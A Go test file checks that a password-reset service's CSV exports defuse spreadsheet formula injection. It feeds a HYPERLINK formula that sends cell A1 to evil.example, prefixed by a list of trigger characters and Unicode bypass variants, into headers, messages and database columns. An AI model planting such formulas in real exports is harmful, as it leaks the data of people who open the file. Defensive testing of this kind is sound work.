package threats

import (
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"
)

// runs are the beginnings of cells that a spreadsheet treats as a formula or removes
// before it checks again (OWASP, CSV Injection). In many countries a semicolon
// separates cells.
var runs = []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\t=", "\r\n=", "a;=", "a; +", "a,@", "a|-", "a\t=", " =", "  \t +", " \t-", " @", "\u00a0=", "\u3000=", "\ufeff+", "\u200b@"}

const formula = `HYPERLINK("https://evil.example/?"&A1,"ok")`

// A visitor can type some of these texts. The application that owns the accounts can
// write all of them. So all of them can be in the record and in an export.
func TestSpreadsheetFormulas(t *testing.T) {
	each(t, nil, func(s *service) {
		s.account(user)
		m := s.member("arno", "agent")
		for _, start := range runs {
			s.browser().With("User-Agent", strings.Trim(start+formula, "\r\n")).Request(user).To("/password-reset/done")
			s.mails() // the request is matched
			m.send(s.newest(user), start+formula).Is(http.StatusSeeOther)
			s.poison(s.newest(user), start+formula)
		}
		s.mails()
		for what, export := range map[string]string{
			"the page's": m.Get("/support/resets.csv").Is(http.StatusOK).Body, "the command's": s.history("csv"),
		} {
			s.wantDefused(what, export)
		}
	})
}

// poison writes a text into every column of a reset that a stranger, an application or
// a member can influence.
func (s *service) poison(id, text string) {
	s.Helper()
	quoted := `'` + strings.ReplaceAll(text, `'`, `''`) + `'`
	s.db.SQL(s.T, `UPDATE password_resets SET email = `+quoted+`, user_id = `+quoted+`, created_by_agent = `+quoted+`,
		used_at = created_at, used_by_ip = created_by_ip, used_by_agent = `+quoted+` WHERE id = '`+id+`'`)
}

// history returns the command's output for all resets.
func (s *service) history(format string) string {
	s.Helper()
	status, out, problems := s.command("history", "--limit", "0", "--format", format)
	if status != 0 {
		s.Fatalf("history: status %d\n%s", status, problems)
	}
	return out
}

func (s *service) wantDefused(what, export string) {
	s.Helper()
	rows, err := csv.NewReader(strings.NewReader(export)).ReadAll()
	s.must(err)
	if want := 2*len(runs) + 1; len(rows) != want {
		s.Errorf("%s export has %d lines, want %d", what, len(rows), want)
	}
	found := 0
	for _, cell := range slices.Concat(rows...) {
		if slices.ContainsFunc(runs, func(start string) bool { return strings.HasPrefix(cell, start) }) {
			s.Errorf("%s export has a cell with a formula: %q", what, cell)
		}
		if strings.Contains(cell, "HYPERLINK") {
			found++
		}
	}
	// Four poisoned columns, and the agent of the earlier request. The reasons of
	// members are not in an export.
	if want := 5 * len(runs); found != want {
		s.Errorf("%s export has %d poisoned cells, want %d", what, found, want)
	}
}
